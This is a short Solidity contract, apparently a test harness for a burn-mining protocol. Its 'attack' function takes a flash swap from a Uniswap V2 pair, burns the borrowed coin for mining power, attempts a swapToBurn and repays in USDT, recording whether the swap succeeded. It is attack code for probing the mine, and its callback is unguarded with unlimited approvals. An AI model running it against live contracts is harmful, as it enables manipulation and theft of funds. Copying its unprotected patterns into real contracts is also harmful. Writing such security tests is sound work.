// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

import {ITRC20} from "@openzeppelin/tron-contracts/token/TRC20/ITRC20.sol";
import {IBurnMine} from "../../src/burn-mining/IBurnMine.sol";
import {IUniswapV2Pair} from "../../src/dex/IUniswapV2.sol";

/// @notice Borrows a coin from its pair in the middle of a swap, burns it for power and pays the pair in the other coin.
contract FlashBurner {
    IBurnMine private immutable _MINE;
    ITRC20 private immutable _COIN;
    ITRC20 private immutable _USDT;

    bool public swapWorked;

    constructor(IBurnMine mine, ITRC20 coin, ITRC20 usdt) {
        _MINE = mine;
        _COIN = coin;
        _USDT = usdt;
    }

    function attack(IUniswapV2Pair pair, uint256 borrow, uint256 uAmount, uint256 repay) external {
        bool first = address(_COIN) < address(_USDT);
        pair.swap(first ? borrow : 0, first ? 0 : borrow, address(this), abi.encode(pair, uAmount, repay));
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        (address pair, uint256 uAmount, uint256 repay) = abi.decode(data, (address, uint256, uint256));
        _COIN.approve(address(_MINE), type(uint256).max);
        _USDT.approve(address(_MINE), type(uint256).max);
        _MINE.burn(address(_COIN), uAmount);
        try _MINE.swapToBurn(address(_COIN), 1e6) {
            swapWorked = true;
        } catch {
            swapWorked = false;
        }
        _USDT.transfer(pair, repay);
    }
}
